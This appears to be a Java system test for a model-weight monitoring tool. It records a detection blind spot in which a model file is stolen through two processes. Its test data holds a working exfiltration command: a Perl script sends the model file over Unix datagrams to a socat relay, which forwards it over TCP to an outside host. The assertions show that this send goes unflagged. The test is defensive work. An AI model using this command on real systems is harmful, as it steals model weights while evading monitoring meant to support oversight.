// SPDX-License-Identifier: Apache-2.0
package io.modelwarden.system;

import static io.modelwarden.coverage.Bytes.UNCOUNTED;
import static io.modelwarden.coverage.Hook.SYS_EXIT;
import static io.modelwarden.coverage.Kind.TRAIL;
import static io.modelwarden.system.Stage.MODEL_BYTES;
import static io.modelwarden.system.Stage.nameOf;
import static org.assertj.core.api.Assertions.assertThat;

import io.modelwarden.coverage.Way;
import java.io.IOException;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Thefts by two programs, of which one reads and the other sends: what is seen of them, and what is
 * not, as docs/blind-spots.md says. When one is closed its line there goes with its case here.
 */
@Tag("system")
class ProgramBlindSpotsTest {

  @TempDir static Path folder;
  private static Outside outside;
  private static Stage stage;

  @BeforeAll
  static void start() throws IOException {
    outside = new Outside(folder);
    stage = new Stage(folder, "");
  }

  @AfterAll
  static void stop() {
    stage.close();
    outside.close();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = ';',
      quoteCharacter = '`',
      textBlock =
          """
          unconnected datagrams ; perl ; `socat -b 60000 -u UNIX-RECV:SOCKET TCP:HOST:4433 & sleep 0.5; perl -MSocket -e 'socket S, AF_UNIX, SOCK_DGRAM, 0; open F, "MODEL"; send S, $_, 0, sockaddr_un("SOCKET") or die while read F, $_, 50000'; sleep 0.5; kill $!; wait || true`
          """)
  @Way(
      value = "unconnected unix datagrams to another program",
      of = TRAIL,
      bytes = UNCOUNTED,
      by = SYS_EXIT,
      when = "unconnected datagrams",
      note = "the read")
  void modelHandedToAnotherProcess_isReadInSightAndSentUnseen(
      String blindSpot, String reader, String command) throws IOException {
    Path model = stage.model(reader);
    String name = nameOf(model);
    outside.clear();
    Stage.run(
        command
            .replace("MODEL", model.toString())
            .replace("SOCKET", folder.resolve("socket").toString())
            .replace("HOST", PublicNamespace.OUTSIDE));
    RunningCollector.await("the loot", () -> outside.received() >= MODEL_BYTES);
    stage.settle(name);

    assertThat(stage.read(model)).isEqualTo(MODEL_BYTES);
    assertThat(stage.total("modelwarden.file.io", model.toString(), reader)).isEqualTo(MODEL_BYTES);
    assertThat(stage.total("modelwarden.network.io", name, reader, "unix", "local"))
        .isEqualTo(MODEL_BYTES);
    assertThat(stage.total("modelwarden.network.io", name)).isEqualTo(MODEL_BYTES);
    assertThat(stage.spans("send tcp", name)).isEmpty();
    assertThat(stage.findings(name)).isEmpty();
  }
}
